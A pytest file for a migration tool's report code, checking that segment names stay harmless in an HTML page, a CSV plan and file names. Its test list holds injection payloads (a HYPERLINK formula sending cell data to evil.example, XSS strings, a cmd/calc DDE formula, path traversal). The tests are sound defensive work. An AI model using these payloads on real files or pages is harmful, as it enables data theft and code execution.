"""The report: what a manager reads, and what a hostile name cannot do in it."""

from __future__ import annotations

import csv
import html
import io
import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest

from migrator.base.safe_text import for_file_name, for_spreadsheet, for_terminal
from migrator.contracts.choices import Choice
from migrator.contracts.journal import JournalSummary, LoadResult, LoadState, Mishap
from migrator.contracts.members import Members, MemberSource
from migrator.contracts.payload import Payload, PayloadKind, StaticGroup
from migrator.contracts.plan import PLAN_FORMAT, Outcome, Plan, PlannedSegment, TranslationSettings, write_plan
from migrator.contracts.verification import Match, Verified
from migrator.product import findings
from migrator.report.charts import flow
from migrator.report.compare import changes, compare, totals
from migrator.report.forms.html import write
from migrator.report.people import People
from migrator.report.row import Facts, ReportRow, Standing, row_of
from migrator.report.story import Circumstances, Story, marked, tell
from tests.small import ORGANISATION, segment

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "<script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "../../x",
    "قائمة \u202egnp.exe",
    "a,b;c\td\ne\"f'g",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "{{ 7 * 7 }}{% raw %}",
    "x" * 100,
    "",
]


def payload(
    kind: PayloadKind = PayloadKind.STATIC, *groups: StaticGroup, publish: bool = True, query: str = ""
) -> Payload:
    return Payload(kind, {"msdynmkt_segmentquery": ""}, {"msdynmkt_displayname": "A"}, groups, publish)


def planned(n: int, name: str = "A", outcome: Outcome = Outcome.READY, **changes: object) -> PlannedSegment:
    groups = (StaticGroup(UUID(int=1), "g", 0, 10),) if outcome is Outcome.READY else ()
    values: dict[str, object] = {
        "legacy_id": segment(n),
        "name": name,
        "type_code": 192350001,
        "status_code": 192350001,
        "query": "",
        "outcome": outcome,
        "findings": (),
        "recorded_size": 10,
        "members": Members(MemberSource.SERVICE, 10),
        "definition_id": UUID(int=n),
        "segment_id": UUID(int=100 + n),
        "payload": payload(PayloadKind.STATIC, *groups) if outcome in (Outcome.READY, Outcome.ADAPTED) else None,
        **changes,
    }
    return PlannedSegment(**values)  # type: ignore[arg-type]


def a_plan(*segments: PlannedSegment) -> Plan:
    return Plan(PLAN_FORMAT, "1.2.3", ORGANISATION, "f", TranslationSettings(ORGANISATION), segments)


def story(
    plan: Plan, *, results: object = None, seen: object = None, people: People | None = None, **circumstances: Any
) -> Story:
    told = {"run": "a-run", "at": "2026-01-01T10:11:12Z", "dry_run": False, "verified_at": "", **circumstances}
    compared = compare(plan, results or {}, seen or {}, dry_run=told["dry_run"])  # type: ignore[arg-type]
    return tell(plan, compared, totals(compared.rows), Circumstances(**told), people)


def page(plan: Plan, folder: Path, **told: Any) -> str:
    return write(story(plan, **told), folder).read_text(encoding="utf-8")


def data(text: str) -> Any:
    """What the script of a page is given."""
    return json.loads(text.split('<script id="data" type="application/json">')[1].split("</script>", maxsplit=1)[0])


def loaded(*numbers: int) -> dict[UUID, LoadResult]:
    return {segment(n): LoadResult(segment(n), LoadState.LOADED, "publish", created=True) for n in numbers}


def row(one: PlannedSegment, after: int | None = None) -> ReportRow:
    match = Match.EQUAL if one.before == after else Match.DIFFERENT
    return row_of(Facts(one, LoadResult(one.legacy_id, LoadState.LOADED), Verified(one.legacy_id, match, 0, after)))


def seen(n: int, match: Match, after: int | None = 10, inactive: int = 0) -> Verified:
    return Verified(segment(n), match, 10, after, inactive)


# --- the comparison ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("outcome", "result", "look", "standing"),
    [
        (Outcome.FLAGGED, None, None, Standing.WAITING),
        (Outcome.BLOCKED, None, None, Standing.IMPOSSIBLE),
        (Outcome.SKIPPED, None, None, Standing.LEFT_OUT),
        (Outcome.READY, None, None, Standing.PLANNED),
        (Outcome.READY, LoadState.FAILED, None, Standing.FAILED),
        (Outcome.READY, LoadState.LOADED, None, Standing.UNVERIFIED),
        (Outcome.READY, LoadState.LOADED, Match.UNKNOWN, Standing.UNVERIFIED),
        (Outcome.ADAPTED, LoadState.LOADED, Match.EQUAL, Standing.VERIFIED),
        (Outcome.READY, LoadState.LOADED, Match.EXPLAINED, Standing.VERIFIED),
        (Outcome.READY, LoadState.LOADED, Match.DIFFERENT, Standing.DIFFERENT),
        (Outcome.READY, LoadState.LOADED, Match.DRAFT, Standing.DRAFT),
    ],
)
def test_every_segment_stands_in_one_place(
    outcome: Outcome, result: LoadState | None, look: Match | None, standing: Standing
) -> None:
    results = {segment(1): LoadResult(segment(1), result)} if result else {}
    looks = {segment(1): seen(1, look)} if look else {}
    compared = compare(a_plan(planned(1, outcome=outcome)), results, looks, dry_run=False)
    assert [row.standing for row in compared.rows] == [standing]


def test_numbers_are_added_up() -> None:
    plan = a_plan(
        planned(1),
        planned(2, members=Members(MemberSource.NONE), recorded_size=7),
        planned(3, outcome=Outcome.FLAGGED),
        planned(4, outcome=Outcome.BLOCKED, members=Members(MemberSource.NONE), recorded_size=None),
    )
    looks = {segment(1): seen(1, Match.EXPLAINED, 8, inactive=2), segment(2): seen(2, Match.EQUAL, 7)}
    rows = compare(plan, loaded(1, 2), looks, dry_run=False).rows
    total = totals(rows)
    assert (total.segments, total.carried_over, total.waiting, total.impossible, total.verified) == (4, 2, 1, 1, 2)
    assert (total.members_before, total.members_after) == (17, 15)
    assert [row.difference for row in rows] == [-2, 0, None, None]
    assert [row.share for row in rows] == [0.8, 1.0, None, None]
    assert rows[0].explanation == "2 inactive contacts"
    assert [row.before_source for row in rows] == ["service", "recorded", "service", "unknown"]


def test_a_failure_is_told_with_step_code_and_request_id() -> None:
    result = LoadResult(segment(1), LoadState.FAILED, "publish", False, "0x5", "No.", "abc")
    (row,) = compare(a_plan(planned(1)), {segment(1): result}, {}, dry_run=False).rows
    assert row.error == "Step “publish”: No. (0x5 request id abc)"


def test_what_changed_between_two_looks_is_named() -> None:
    plan = a_plan(planned(1), planned(2), planned(3))
    then = compare(
        a_plan(planned(1), planned(2), planned(4, "Old")),
        loaded(1, 2),
        {segment(1): seen(1, Match.EQUAL)},
        dry_run=False,
    )
    now = compare(plan, loaded(1, 2), {segment(1): seen(1, Match.DIFFERENT, 9)}, dry_run=False)
    found = {(one.name, one.was, one.now, one.after_was, one.after_now) for one in changes(then, now)}
    assert found == {
        ("A", "verified", "different", 10, 9),
        ("A", "", "planned", None, None),
        ("Old", "planned", "", None, None),
    }


# --- drawings --------------------------------------------------------------------------------------------------------


def test_the_flow_loses_nobody_on_the_way() -> None:
    steps = [
        (("Static", "Live", "verified"), 4),
        (("Static", "Live", "verified"), 1),
        (("Static", "Draft", "draft"), 2),
        (("Dynamic", "Live", "waiting"), 1),
        (("Dynamic", "Draft", "draft"), 0),
    ]
    drawn = flow(steps)
    for column in range(3):
        assert sum(node.count for node in drawn.nodes if node.column == column) == 8
    for node in drawn.nodes:
        leaving = sum(ribbon.count for ribbon in drawn.ribbons if ribbon.source == node.name)
        assert leaving == (node.count if node.column < 2 else 0)
    assert all(node.y + node.height <= drawn.height for node in drawn.nodes)
    assert flow([]).nodes == ()


def test_differences_between_queries_are_marked() -> None:
    left, right = marked(
        "PROFILE(contact, c).FILTER(c.city == 'New York')", "PROFILE(contact).FILTER(city == 'New York')"
    )
    assert "".join(part.text for part in left if part.differs) == ", cc."
    assert not any(part.differs for part in right)
    assert "".join(part.text for part in right) == "PROFILE(contact).FILTER(city == 'New York')"
    assert marked("", "x")[0] == ()


# --- the page ----------------------------------------------------------------------------------------------------


def test_the_page_shows_before_after_and_difference(tmp_path: Path) -> None:
    looks = {segment(1): seen(1, Match.EXPLAINED, 1_008, inactive=2)}
    text = page(a_plan(planned(1, "Autumn")), tmp_path, results=loaded(1), seen=looks)
    assert "<bdi>Autumn</bdi>" in text
    for cell in (">1,008</td>", ">+998</td>"):
        assert cell in text
    assert "2 inactive contacts" in text
    assert "DRY RUN" not in text
    assert str(segment(1)) in text
    assert "begun 2026-01-01 10:11 UTC" in text


def test_a_dry_run_says_so_and_shows_what_is_planned(tmp_path: Path) -> None:
    text = page(a_plan(planned(1), planned(2, payload=payload(publish=False))), tmp_path, dry_run=True)
    assert "DRY RUN – nothing was changed" in text
    assert ">Planned</th>" in text
    assert ">After</th>" not in text
    assert "2 of 2 segments can be carried over" in text


def test_findings_are_shown_with_advice_grouped_by_reason(tmp_path: Path) -> None:
    found = findings.members_unknown("the list is gone")
    plan = a_plan(*(planned(n, f"S{n}", Outcome.FLAGGED, findings=(found,)) for n in range(1, 21)))
    text = page(plan, tmp_path)
    assert text.count("<h3>The members of a static segment could not be read.") == 1
    assert f'href="#open={segment(1)}"' in text
    assert html.escape(found.advice) in text.replace("&#39;", "&#x27;")
    assert "8 more of these" in text
    assert len(data(text)["rows"]) == 20


def test_a_decision_stands_with_both_queries_and_its_command(tmp_path: Path) -> None:
    one = planned(
        1, "Compound", Outcome.FLAGGED, query="SEGMENT(a) UNION SEGMENT(b)", english="everybody in a or b",
        proposal="SEGMENT(c) UNION SEGMENT(d)", findings=(findings.compound_segment(2),),
        alternatives={Choice.TRANSLATE: payload(PayloadKind.DYNAMIC)},
    )  # fmt: skip
    text = page(a_plan(one), tmp_path)
    assert "<del>a</del>" in text
    assert "<ins>c</ins>" in text
    assert "Selects everybody in a or b." in text
    assert f"migrator approve {segment(1)} --as translate --run a-run" in text


def test_the_limits_of_the_target_are_set_against_what_is_used(tmp_path: Path) -> None:
    text = page(a_plan(planned(1), planned(2, outcome=Outcome.BLOCKED)), tmp_path)
    assert "1 of 13,000" in text
    assert "0 of 3,000" in text
    assert "1 of 10,000" in text


def test_errors_are_in_the_appendix_with_their_request_ids(tmp_path: Path) -> None:
    mishap = Mishap(segment(1), "publish", "2026-01-01T00:00:00Z", "0x5", "not now", "req-7")
    journal = JournalSummary({"publish": (3, 1, 0)}, (mishap,), {})
    text = page(a_plan(planned(1)), tmp_path, journal=journal, traffic={"sent": 9, "again": 2, "wait": 1})
    for words in (
        "req-7",
        "not now",
        "0x5",
        "9 requests, 2 of them sent again; the organisation asked to wait 1 times",
    ):
        assert words in text


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_hostile_names_stay_text_in_the_page(tmp_path: Path) -> None:
    harmless = page(a_plan(*(planned(n, "A") for n in range(len(HOSTILE)))), tmp_path)
    hostile = page(a_plan(*(planned(n, name) for n, name in enumerate(HOSTILE))), tmp_path)
    parsed, expected = Tags(), Tags()
    parsed.feed(hostile)
    expected.feed(harmless)
    assert [tag for tag, _ in parsed.tags] == [tag for tag, _ in expected.tags]
    assert [row[2] for row in data(hostile)["rows"]] == HOSTILE
    assert not [name for _, attributes in parsed.tags for name in attributes if name.startswith("on")]
    assert "{{ 7 * 7 }}{% raw %}" in hostile  # a name is no template either


def test_the_page_stands_on_its_own(tmp_path: Path) -> None:
    text = page(a_plan(planned(1)), tmp_path)
    parsed = Tags()
    parsed.feed(text)
    links = [value for _, attributes in parsed.tags for name in ("src", "href") if (value := attributes.get(name))]
    assert all(link.startswith("#") for link in links)
    assert "url(" not in text
    assert not [name for _, attributes in parsed.tags for name in attributes if name == "style"]
    (policy,) = (a["content"] for tag, a in parsed.tags if tag == "meta" and "http-equiv" in a)
    assert policy is not None
    assert policy.startswith("default-src 'none'; script-src 'sha256-")
    assert "unsafe" not in policy


def test_a_report_of_nothing_is_a_report(tmp_path: Path) -> None:
    assert "0 of 0 segments" in page(a_plan(), tmp_path)


# --- the plan as a table, and text in other places ---------------------------------------------------------------


def test_hostile_names_are_no_formulas_in_the_table(tmp_path: Path) -> None:
    write_plan(a_plan(*(planned(n, name) for n, name in enumerate(HOSTILE))), tmp_path)
    text = (tmp_path / "plan.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    for name, row in zip(HOSTILE, rows[1:], strict=True):
        assert row[0] == (f"'{name}" if name[:1] in tuple("=+-@") else name)
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


@pytest.mark.parametrize(
    ("text", "cell", "terminal", "file"),
    [
        ("=1+1", "'=1+1", "=1+1", "1-1"),
        ("plain", "plain", "plain", "plain"),
        ("../../x", "../../x", "../../x", "x"),
        ("a\x1b[31mred\u202e", "a\x1b[31mred\u202e", "a[31mred", "a-31mred"),
        ("", "", "", "unnamed"),
        ("\tx", "'\tx", " x", "x"),
        ("two\r\nlines\u2028more", "two\r\nlines\u2028more", "two lines more", "two-lines-more"),
    ],
)
def test_names_are_made_harmless_where_they_go(text: str, cell: str, terminal: str, file: str) -> None:
    assert for_spreadsheet(text) == cell
    assert for_terminal(text) == terminal
    assert for_file_name(text) == file


def test_numbers_stay_numbers_in_a_table() -> None:
    assert for_spreadsheet(-5) == -5
